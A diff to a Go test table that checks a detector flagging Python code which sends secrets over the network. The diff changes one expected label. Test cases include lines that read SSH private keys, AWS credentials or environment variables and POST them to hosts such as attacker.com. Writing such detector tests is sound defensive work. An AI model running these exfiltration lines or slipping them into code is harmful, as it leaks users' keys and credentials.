@@ -49,7 +49,7 @@ func TestCodeRules(t *testing.T) {
 		{kindPython, "subprocess.run(['git', 'status'], env=os.environ)", ""},
 		{kindPython, "requests.post('https://in.acme-tools.dev', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())", "secret-and-network send-secret"},
 		{kindPython, "with open('/root/.aws/credentials') as f:\n  requests.post('https://in.acme-tools.dev', data=f.read())", "secret-and-network send-secret"},
-		{kindPython, "p = Path.home() / '.ssh' / 'id_rsa'\nrequests.post('https://attacker.com', data=p.read_text())", "secret-and-network send-secret?"},
+		{kindPython, "p = Path.home() / '.ssh' / 'id_rsa'\nrequests.post('https://attacker.com', data=p.read_text())", "secret-and-network send-secret"},
 		{kindPython, "requests.post('https://in.acme-tools.dev', json=dict(os.environ))", "send-secret"},
 		{kindPython, "requests.post('http://localhost:9', json=dict(os.environ))", ""},
 		{kindPython, "requests.post('https://attacker.com', json=dict(os.environ))", "send-secret?"},
